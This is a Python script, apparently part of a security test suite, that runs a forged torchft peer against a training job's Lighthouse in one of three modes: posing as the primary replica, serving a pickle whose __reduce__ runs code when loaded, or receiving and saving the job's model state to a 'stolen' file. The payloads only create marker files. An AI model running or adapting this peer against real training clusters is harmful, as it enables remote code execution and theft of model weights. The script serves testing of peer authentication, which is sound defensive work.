"""A forged torchft peer, built with torchft's own API alone (no eksft in this process), as another user of
the machine would run it against a job's Lighthouse: ``python forged_peer.py MODE LIGHTHOUSE OUT``.

- ``first``: joins at step 0 with a replica id that sorts before the job's groups (at the job's start it
  would be the primary every group heals from); touches ``OUT/served-first`` if asked for its state;
- ``ahead``: joins at step 1000 (the peer every group heals from) and serves a pickle that creates
  ``OUT/rce`` when it is loaded;
- ``behind``: joins at step 0 after the groups (it is sent their state) and writes what it was sent to
  ``OUT/stolen``.

It asks for quorums until it is killed, printing each outcome (``joined ...`` or ``refused ...``)."""

from __future__ import annotations

import datetime
import os
import sys
import time
from pathlib import Path


class Marker:
    """Unpickled, it creates a file: code that a peer's pickle runs in whoever loads it."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple:
        return open, (self.path, "w")


def main(mode: str, lighthouse: str, out: Path) -> None:
    from torch.distributed import TCPStore
    from torchft import Manager, ProcessGroupGloo

    t, quick = datetime.timedelta(seconds=10), datetime.timedelta(seconds=4)   # quick: a quorum refused
    store = TCPStore("127.0.0.1", 0, is_master=True, wait_for_workers=False)

    def state() -> dict:
        if mode == "first":
            (out / "served-first").touch()
            return {"model": "not the job's"}
        return {"evil": Marker(str(out / "rce"))}

    def load(sent: object) -> None:
        (out / "stolen").write_text(repr(sent)[:2000])

    replica = {"first": "0-first", "ahead": "group9", "behind": "zz-behind"}[mode]
    manager = None
    while manager is None:
        try:
            manager = Manager(pg=ProcessGroupGloo(timeout=t), min_replica_size=1, load_state_dict=load,
                              state_dict=state, use_async_quorum=False, replica_id=replica, rank=0,
                              world_size=1, store_addr="127.0.0.1", store_port=store.port,
                              lighthouse_addr=lighthouse, timeout=t, quorum_timeout=quick,
                              connect_timeout=t, hostname="127.0.0.1")
        except Exception as e:   # its Lighthouse would not have it
            print(f"refused: {str(e)[:200]}", flush=True)
            time.sleep(0.5)
    manager._step = 1000 if mode == "ahead" else 0
    while True:
        try:
            manager.start_quorum()
            print(f"joined quorum {manager._quorum_id} at step {manager.current_step()}", flush=True)
        except Exception as e:
            print(f"refused: {str(e)[:200]}", flush=True)
        manager._step = 1000 if mode == "ahead" else 0
        time.sleep(0.2)


if __name__ == "__main__":
    os.environ.setdefault("MASTER_ADDR", "127.0.0.1")
    main(sys.argv[1], sys.argv[2], Path(sys.argv[3]))
